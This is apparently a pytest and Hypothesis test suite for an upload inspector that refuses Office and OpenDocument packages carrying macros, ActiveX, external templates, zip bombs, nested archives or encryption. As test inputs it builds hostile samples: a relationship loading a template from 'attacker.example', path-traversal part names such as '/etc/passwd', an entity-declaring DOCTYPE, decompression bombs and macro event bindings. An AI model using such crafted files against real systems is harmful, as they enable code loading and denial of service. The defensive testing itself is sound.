"""ZIP packages (OOXML, ODF) with generated content: macros under any path and letter case,
macro-enabled content types, ActiveX and OLE parts, external templates, decompression bombs,
nested packages and encryption flags are refused with a reason that names them; generated
benign packages are accepted. Nothing here touches the database."""

from __future__ import annotations

import zipfile

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from kernel import uploads
from kernel.uploads import UploadRejected
from tests.kernel import packages as p

SEGMENT = st.text(
    alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-", min_size=1, max_size=12
)
PATH = st.lists(SEGMENT, min_size=0, max_size=4).map("/".join)
FAMILY = st.sampled_from(["word", "ppt", "xl"])
XML_TEXT = st.text(
    alphabet=st.characters(codec="utf-8", exclude_characters="<>&\x00", exclude_categories=("Cs",)),
    max_size=200,
)


def random_case(draw, text: str) -> str:
    flips = draw(st.lists(st.booleans(), min_size=len(text), max_size=len(text)))
    return "".join(c.upper() if f else c.lower() for c, f in zip(text, flips, strict=True))


def joined(path: str, name: str) -> str:
    return f"{path}/{name}" if path else name


KIND_OF = {"word": "draft", "ppt": "presentation", "xl": "evidence"}


def refused(content: bytes, kind: str = "evidence") -> UploadRejected:
    with pytest.raises(UploadRejected) as caught:
        p.inspect(content, kind)
    return caught.value


@st.composite
def benign_ooxml(draw):
    family = draw(FAMILY)
    extra = []
    used = {n.lower() for n, _ in p.ooxml_entries(family)}
    for _ in range(draw(st.integers(0, 6))):
        path = draw(PATH)
        name = joined(
            f"{family}/{path}" if path else family,
            draw(SEGMENT) + draw(st.sampled_from([".xml", ".png", ".txt"])),
        )
        if name.lower() in used:
            continue
        used.add(name.lower())
        if name.endswith(".png"):
            data = p.PNG_1X1
        else:
            data = f"<?xml version='1.0'?><part>{draw(XML_TEXT)}</part>".encode()
        extra.append((name, data))
    return family, p.zip_bytes(p.ooxml_entries(family, extra=extra))


@given(benign_ooxml())
def test_generated_office_documents_without_active_content_are_accepted(case):
    family, content = case
    expected = {"word": uploads.DOCX, "ppt": uploads.PPTX, "xl": uploads.XLSX}[family]
    assert p.inspect(content, KIND_OF[family]).content_type == expected


@given(st.sampled_from(sorted(uploads.MACRO_PART_NAMES)), PATH, FAMILY, st.data())
def test_a_vba_project_under_any_path_and_case_is_refused(macro_name, path, family, data):
    name = joined(path, random_case(data.draw, macro_name))
    content = p.zip_bytes(p.ooxml_entries(family, extra=[(name, b"\x00\x01VBA")]))
    error = refused(content, KIND_OF[family])
    assert error.reason == "macro"
    assert "macros" in error.message and name in error.message


@given(
    st.sampled_from(
        [
            "application/vnd.ms-word.document.macroEnabled.main+xml",
            "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
            "application/vnd.ms-office.vbaProject",
            "application/vnd.ms-excel.intl.macrosheet+xml",
            "application/vnd.ms-word.vbaData+xml",
        ]
    ),
    FAMILY,
    st.booleans(),
    st.data(),
)
def test_macro_enabled_content_types_are_refused_even_in_a_file_named_docx(
    content_type, family, escaped, data
):
    declared = random_case(data.draw, content_type)
    if escaped:  # character references must not hide it
        declared = "".join(f"&#{ord(c)};" if c in "mM" else c for c in declared)
    override = f'<Override PartName="/{p.MAIN_PARTS[family]}x" ContentType="{declared}"/>'
    error = refused(p.zip_bytes(p.ooxml_entries(family, overrides=override)), KIND_OF[family])
    assert error.reason == "macro"
    assert "macros" in error.message


def test_a_real_docm_renamed_docx_is_refused_as_a_macro():
    override = (
        '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    entries = p.ooxml_entries(
        "word", overrides=override, extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0VBA")]
    )
    entries[0] = (
        entries[0][0],
        entries[0][1].replace(b"document.main+xml", b"document.macroEnabled.main+xml"),
    )
    error = refused(p.zip_bytes(entries), "minutes")
    assert error.reason == "macro"


@given(
    st.sampled_from(
        [
            "word/activeX/activeX1.xml",
            "ppt/activeX/activeX1.bin",
            "word/embeddings/oleObject1.bin",
            "xl/macrosheets/sheet1.xml",
        ]
    ),
    st.data(),
)
def test_activex_ole_and_excel4_macro_parts_are_refused(name, data):
    name = random_case(data.draw, name)
    error = refused(p.zip_bytes(p.ooxml_entries("word", extra=[(name, b"<x/>")])))
    assert error.reason in ("active_content", "macro")
    assert name in error.message


def test_printer_settings_binary_parts_are_accepted():
    content = p.xlsx(extra=[("xl/printerSettings/printerSettings1.bin", b"\x01\x02DEVMODE")])
    assert p.inspect(content, "evidence").content_type == uploads.XLSX


@given(st.sampled_from(["attachedTemplate", "oleObject", "frame", "subDocument"]), st.booleans())
def test_a_template_or_object_loaded_from_outside_is_refused(rel_type, escape_mode):
    mode = "&#69;xternal" if escape_mode else "External"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{rel_type}" '
        f'Target="https://attacker.example/t.dotm" TargetMode="{mode}"/></Relationships>'
    )
    error = refused(p.docx(extra=[("word/_rels/settings.xml.rels", rels.encode())]))
    assert error.reason == "active_content"
    assert rel_type.lower() in error.message


def test_an_external_hyperlink_is_accepted():
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="https://u4ssc.example/" TargetMode="External"/></Relationships>'
    )
    assert (
        p.inspect(p.docx(extra=[("word/_rels/document.xml.rels", rels.encode())])).content_type
        == uploads.DOCX
    )


@given(st.integers(min_value=uploads.ZIP_MAX_ENTRY_BYTES + 1, max_value=2**32 - 1), FAMILY)
def test_a_part_declaring_more_than_the_bound_is_refused_before_anything_is_decompressed(size, family):
    content = p.set_declared_size(p.zip_bytes(p.ooxml_entries(family)), p.MAIN_PARTS[family], size)
    error = refused(content, KIND_OF[family])
    assert error.reason == "bomb"
    assert "decompression bomb" in error.message


@given(st.integers(min_value=2, max_value=8))
def test_a_real_zip_bomb_of_a_few_megabytes_is_refused_by_its_ratio(megabytes):
    zeros = b"\x00" * (megabytes * uploads.MB)
    content = p.docx(extra=[("word/media/padding.xml", zeros)])
    assert len(content) < 64 * 1024  # a few kilobytes that expand to megabytes
    error = refused(content)
    assert error.reason == "bomb"
    assert "to 1" in error.message


def test_many_parts_that_add_up_to_a_gigabyte_are_refused_by_the_total():
    # Each part stays under the ratio check (1 MB), together they declare 250 MB.
    entries = p.ooxml_entries("word", extra=[(f"word/media/part{i}.xml", b"<x/>") for i in range(250)])
    content = p.zip_bytes(entries)
    for i in range(250):
        content = p.set_declared_size(content, f"word/media/part{i}.xml", uploads.MB)
    error = refused(content)
    assert error.reason == "bomb" and "200 MB" in error.message


def test_too_many_parts_are_refused():
    entries = p.ooxml_entries(
        "word", extra=[(f"word/p/{i}.xml", b"") for i in range(uploads.ZIP_MAX_ENTRIES)]
    )
    error = refused(p.zip_bytes(entries, compression=zipfile.ZIP_STORED))
    assert error.reason == "bomb"


@given(st.integers(min_value=1, max_value=60))
def test_a_part_that_lies_about_its_size_fails_its_check_instead_of_expanding(declared):
    content = p.docx(extra=[("word/media/big.xml", b"<x>" + b"a" * 5000 + b"</x>")])
    content = p.set_declared_size(content, "word/media/big.xml", declared)
    error = refused(content)
    assert error.reason == "malformed"


@given(
    PATH,
    st.sampled_from(
        [b"PK\x03\x04", p.uploads.OLE_MAGIC, b"Rar!\x1a\x07", b"7z\xbc\xaf\x27\x1c", b"\x1f\x8b\x08\x00"]
    ),
    st.sampled_from(["word", "odt"]),
)
def test_a_package_or_embedded_object_inside_a_package_is_refused(path, magic, family):
    inner = magic + b"\x00" * 64
    if magic == b"PK\x03\x04":
        inner = p.docx()
    name = joined(path, "embedded.bin.dat") if path else "word/embeddings/Microsoft_Excel_Worksheet.xlsx"
    assume("activex" not in path.lower() and "macrosheets" not in path.lower())
    content = p.docx(extra=[(name, inner)]) if family == "word" else p.odt(extra=[(name, inner)])
    error = refused(content)
    assert error.reason == "nested"
    assert name in error.message


@given(FAMILY, st.data())
def test_an_encryption_flag_on_any_part_is_refused(family, data):
    entries = p.ooxml_entries(family)
    name = data.draw(st.sampled_from([n for n, _ in entries]))
    error = refused(p.set_encrypted_flag(p.zip_bytes(entries), name), KIND_OF[family])
    assert error.reason == "encrypted"
    assert "password" in error.message


@given(
    st.sampled_from(["EncryptionInfo", "EncryptedPackage"]), st.sampled_from(["minutes", "draft", "evidence"])
)
def test_a_password_protected_office_file_is_refused_as_encrypted(stream, kind):
    error = refused(p.ole("Root Entry", stream, "DataSpaces"), kind)
    assert error.reason == "encrypted"


def test_an_old_format_word_file_is_refused_with_the_reason():
    error = refused(p.ole("Root Entry", "WordDocument", "Macros"), "minutes")
    assert error.reason == "type" and ".doc" in error.message


@given(st.sampled_from(["../evil.xml", "/etc/passwd", "word/../../x.xml", "..\\x.xml"]))
def test_unsafe_part_names_are_refused(name):
    assert refused(p.docx(extra=[(name, b"<x/>")])).reason == "malformed"


def test_a_part_named_twice_is_refused():
    entries = p.ooxml_entries("word", extra=[("word/document.xml", b"<evil/>")])
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        content = p.zip_bytes(entries)
    assert refused(content).reason == "malformed"


def test_a_document_type_declaration_is_refused():
    bomb = b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><document>&lol;</document>'
    entries = p.ooxml_entries("word")
    entries[2] = (entries[2][0], bomb)
    assert refused(p.zip_bytes(entries)).reason == "malformed"


# OpenDocument ------------------------------------------------------------------------------


@st.composite
def benign_odf(draw):
    mimetype = draw(st.sampled_from(uploads.ODF))
    extra = [("Pictures/" + draw(SEGMENT) + ".png", p.PNG_1X1)]
    extra.append(
        (
            "styles.xml",
            f"<?xml version='1.0'?><office:document-styles>{draw(XML_TEXT)}</office:document-styles>".encode(),
        )
    )
    return mimetype, p.zip_bytes(p.odf_entries(mimetype, extra=extra))


@given(benign_odf())
def test_generated_opendocument_files_without_macros_are_accepted(case):
    mimetype, content = case
    kind = {uploads.ODT: "minutes", uploads.ODP: "presentation", uploads.ODS: "evidence"}[mimetype]
    assert p.inspect(content, kind).content_type == mimetype


@given(st.sampled_from(["Basic", "Scripts"]), PATH, st.data())
def test_opendocument_macro_libraries_are_refused_in_any_case(top, path, data):
    name = joined(random_case(data.draw, top), joined(path, "Module1.xml"))
    error = refused(p.odt(extra=[(name, b"<script/>")]), "minutes")
    assert error.reason == "macro"


@given(
    st.sampled_from(
        [
            ("Scripts/python/x.py", "application/binary"),
            ("Basic/Standard/Module1.xml", "text/xml"),
            ("Scripts/", "application/binary"),
            ("x/y", "application/x-script"),
        ]
    ),
    st.data(),
)
def test_script_entries_in_the_opendocument_manifest_are_refused(entry, data):
    path, media = entry
    path = random_case(data.draw, path)
    entry = f'<manifest:file-entry manifest:full-path="{path}" manifest:media-type="{media}"/>'
    error = refused(p.odt(manifest_extra=entry), "minutes")
    assert error.reason == "macro"


@given(
    st.sampled_from(
        ["vnd.sun.star.script:Standard.Module1.Main?language=Basic", "macro:///Standard.Module1.Main"]
    ),
    st.integers(0, 70_000),
)
def test_an_event_bound_to_a_macro_in_any_opendocument_part_is_refused(url, padding):
    content_xml = (
        '<?xml version="1.0"?><office:document-content><office:body>'
        + "x" * padding
        + f'<office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="{url}"/>'
        "</office:event-listeners></office:body></office:document-content>"
    )
    entries = p.odf_entries(uploads.ODT)
    entries[2] = ("content.xml", content_xml.encode())
    error = refused(p.zip_bytes(entries), "minutes")
    assert error.reason == "macro"


def test_an_encrypted_opendocument_file_is_refused():
    entry = (
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K"/></manifest:file-entry>'
    )
    assert refused(p.odt(manifest_extra=entry), "minutes").reason == "encrypted"
